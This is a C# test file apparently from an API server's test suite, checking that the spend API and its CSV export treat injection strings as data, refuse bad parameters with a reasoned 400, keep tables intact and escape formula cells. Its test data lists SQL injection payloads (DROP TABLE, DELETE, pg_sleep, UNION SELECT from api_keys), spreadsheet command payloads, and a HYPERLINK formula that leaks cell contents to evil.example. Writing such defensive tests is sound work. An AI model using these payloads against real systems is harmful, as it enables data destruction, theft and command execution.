using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Outlay.Core.Keys;
using Outlay.Server.Tests.Support;

namespace Outlay.Server.Tests.HostileInput;

/// <summary>
/// SQL and spreadsheet-formula injection through everything a caller controls in the spend API and its CSV: tag names
/// and values, dimension values (model, service), groupBy, filter names and values, and the other parameters. On every
/// storage engine: each answer is a 400 naming the problem or exactly the right data, the tables stay intact, and a
/// CSV text cell that a spreadsheet would run as a formula starts with a quote.
/// </summary>
public sealed class QueryInjectionTests
{
    /// <summary>Values an attacker would put in a tag, a model or a service name.</summary>
    private static readonly string[] Injections =
    [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "'; DROP TABLE events;--",
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3+cmd|' /C calc'!A0",
        "\" OR 1=1 --",
        "x' OR '1'='1",
        "%' OR 1=1; --",
        "_%",
        "1); DELETE FROM events WHERE (1=1",
        "$$; DROP TABLE events; $$",
        "\\'; SELECT pg_sleep(10);--",
        "Robert'); DROP TABLE projects;--",
        "=1+1",
        "a,\"b\";=1",
    ];

    /// <summary>groupBy, filter names and other parameters that must never reach SQL as text.</summary>
    private static readonly string[] HostileParameters =
    [
        "model; DROP TABLE events;--", "tag.x'--", "tag.\"; DROP TABLE events;--", "provider,(SELECT 1)", "tag." + new string('a', 65),
        "tag.", "tag.x y", "1=1", "events", "cost_usd", "*", "tag.feature,tag.feature", "model) UNION SELECT * FROM api_keys --",
    ];

    [Theory]
    [InlineData("sqlite")]
    [InlineData("postgres")]
    public async Task Injection_strings_in_tags_and_names_are_stored_as_data_and_answered_exactly_with_formula_safe_csv(string engine)
    {
        await using var store = await HostileStore.StartAsync(engine);
        var (read, total) = await SeedAsync(store.Server);

        // Grouped by the tag: every value is its own row with its one event, byte for byte.
        var grouped = await ApiJson.ExpectAsync(await store.Server.GetAsync("/api/v1/spend?from=1d&groupBy=tag.feature,model,service", read), HttpStatusCode.OK);
        var rows = grouped.GetProperty("rows").EnumerateArray().ToList();
        Assert.Equal(total, rows.Sum(r => r.GetProperty("events").GetInt64()));
        foreach (var value in Injections)
        {
            var row = Assert.Single(rows, r => r.GetProperty("tag.feature").GetString() == value);
            Assert.Equal(1, row.GetProperty("events").GetInt64());
            Assert.Equal(value, row.GetProperty("model").GetString());
            Assert.Equal(value, row.GetProperty("service").GetString());
        }

        // Filtered by each value: exactly the events whose tag is one of the filter's '|' alternatives.
        foreach (var value in Injections)
        {
            var alternatives = value.Split('|');
            var expected = Injections.Count(v => alternatives.Contains(v, StringComparer.Ordinal));
            foreach (var dimension in new[] { "tag.feature", "model", "service" })
            {
                var response = await store.Server.GetAsync($"/api/v1/spend?from=1d&filter={Uri.EscapeDataString(dimension + ":" + value)}", read);
                var text = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
                if (response.StatusCode == HttpStatusCode.BadRequest)
                {
                    // Refusing is allowed only with a reason (a value the filter syntax cannot hold, such as one with a comma).
                    Assert.False(string.IsNullOrWhiteSpace(JsonDocument.Parse(text).RootElement.GetProperty("detail").GetString()));
                    continue;
                }

                Assert.True(response.StatusCode == HttpStatusCode.OK, $"filter {dimension}:{value} answered {(int)response.StatusCode}: {text}");
                var events = JsonDocument.Parse(text).RootElement.GetProperty("rows").EnumerateArray().Sum(r => r.GetProperty("events").GetInt64());
                Assert.True(expected == events, $"filter {dimension}:{value} matched {events} events, expected {expected}");
            }
        }

        // CSV: a cell a spreadsheet would evaluate starts with a quote; every other cell is the value itself.
        using var csvResponse = await store.Server.GetAsync("/api/v1/spend?from=1d&groupBy=tag.feature,model&format=csv", read);
        Assert.Equal(HttpStatusCode.OK, csvResponse.StatusCode);
        var records = ParseCsv(await csvResponse.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
        Assert.Equal(new[] { "tag.feature", "model" }, records[0].Take(2).ToArray());
        foreach (var value in Injections)
        {
            var escaped = value[0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + value : value;
            var record = Assert.Single(records, r => r[0] == escaped);
            Assert.Equal(escaped, record[1]);
        }

        Assert.DoesNotContain(records.Skip(1).SelectMany(r => r.Take(2)), cell => cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@');
        await AssertIntactAsync(store.Server, read, total);
    }

    [Theory]
    [InlineData("sqlite")]
    [InlineData("postgres")]
    public async Task Injection_strings_in_query_parameters_are_400_or_correct_data_and_the_tables_stay_intact(string engine)
    {
        await using var store = await HostileStore.StartAsync(engine);
        var (read, total) = await SeedAsync(store.Server);
        var tried = 0;

        foreach (var hostile in HostileParameters.Concat(Injections))
        {
            var escaped = Uri.EscapeDataString(hostile);
            foreach (var query in new[]
            {
                $"from=1d&groupBy={escaped}",
                $"from=1d&filter={escaped}:x",
                $"from=1d&filter=tag.{escaped}:x",
                $"from={escaped}",
                $"from=1d&to={escaped}",
                $"from=1d&interval={escaped}",
                $"from=1d&timeZone={escaped}",
                $"from=1d&format={escaped}",
            })
            {
                tried++;
                var response = await store.Server.GetAsync("/api/v1/spend?" + query, read);
                var text = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
                if (response.StatusCode == HttpStatusCode.BadRequest)
                {
                    var detail = JsonDocument.Parse(text).RootElement.GetProperty("detail").GetString();
                    Assert.False(string.IsNullOrWhiteSpace(detail), $"{query}: a 400 that does not name the problem");
                    continue;
                }

                Assert.True(response.StatusCode == HttpStatusCode.OK, $"{query} answered {(int)response.StatusCode}: {text}");
                if (response.Content.Headers.ContentType?.MediaType == "application/json")
                {
                    // Accepted (a valid name such as tag.events, or an unknown tag value): the answer is still the truth.
                    var rows = JsonDocument.Parse(text).RootElement.GetProperty("rows").EnumerateArray().ToList();
                    var events = rows.Sum(r => r.GetProperty("events").GetInt64());
                    Assert.True(events == total || (query.Contains("filter=", StringComparison.Ordinal) && events == 0), $"{query}: {events} events of {total}");
                }
            }
        }

        TestContext.Current.TestOutputHelper!.WriteLine($"{engine}: {tried} hostile spend queries, {Injections.Length} hostile values stored");
        await AssertIntactAsync(store.Server, read, total);
    }

    /// <summary>
    /// One event per injection value (as tag, model and service), plus events whose tag names are injections, which
    /// must be refused naming the field. Returns a read key and how many events were stored.
    /// </summary>
    private static async Task<(string ReadKey, long Total)> SeedAsync(RunningServer server)
    {
        var project = await server.CreateProjectAsync("injection");
        var ingest = await server.CreateKeyAsync(project, ApiKeyKind.Ingest);
        var read = await server.CreateKeyAsync(project, ApiKeyKind.Read);
        var events = Injections.Select(v => EventJson.Event(model: v, service: v, tags: new Dictionary<string, string> { ["feature"] = v })).ToList();
        var badNames = new[] { "x'; DROP TABLE events;--", "=cmd", "tag name", "Feature" };
        events.AddRange(badNames.Select(n => EventJson.Event(tags: new Dictionary<string, string> { [n] = "v" })));

        var answer = await ApiJson.ExpectAsync(await server.PostEventsAsync(ingest, EventJson.Batch([.. events])), HttpStatusCode.OK);
        Assert.True(Injections.Length == answer.GetProperty("accepted").GetInt32(), answer.GetRawText());
        var rejected = answer.GetProperty("rejected").EnumerateArray().ToList();
        Assert.Equal(badNames.Length, rejected.Count);
        Assert.All(rejected, r => Assert.Contains("tag", r.GetProperty("error").GetString(), StringComparison.Ordinal));
        Assert.All(rejected, r => Assert.DoesNotContain("DROP", r.GetProperty("error").GetString(), StringComparison.Ordinal));
        return (read, Injections.Length);
    }

    /// <summary>The events are all there, and the store still takes and answers a new one.</summary>
    private static async Task AssertIntactAsync(RunningServer server, string read, long total)
    {
        var before = await ApiJson.ExpectAsync(await server.GetAsync("/api/v1/spend?from=1d", read), HttpStatusCode.OK);
        Assert.Equal(total, before.GetProperty("rows").EnumerateArray().Sum(r => r.GetProperty("events").GetInt64()));

        var project = await server.CreateProjectAsync("injection");
        var ingest = await server.CreateKeyAsync(project, ApiKeyKind.Ingest);
        var answer = await ApiJson.ExpectAsync(await server.PostEventsAsync(ingest, EventJson.Batch(EventJson.Event())), HttpStatusCode.OK);
        Assert.Equal(1, answer.GetProperty("accepted").GetInt32());
        var after = await ApiJson.ExpectAsync(await server.GetAsync("/api/v1/spend?from=1d", read), HttpStatusCode.OK);
        Assert.Equal(total + 1, after.GetProperty("rows").EnumerateArray().Sum(r => r.GetProperty("events").GetInt64()));
    }

    /// <summary>RFC 4180: quoted fields with doubled quotes, CRLF records (a quoted field may hold CR and LF).</summary>
    private static List<string[]> ParseCsv(string text)
    {
        var records = new List<string[]>();
        var fields = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                fields.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                fields.Add(field.ToString());
                field.Clear();
                records.Add([.. fields]);
                fields.Clear();
                i++;
            }
            else
            {
                field.Append(c);
            }
        }

        return records;
    }
}
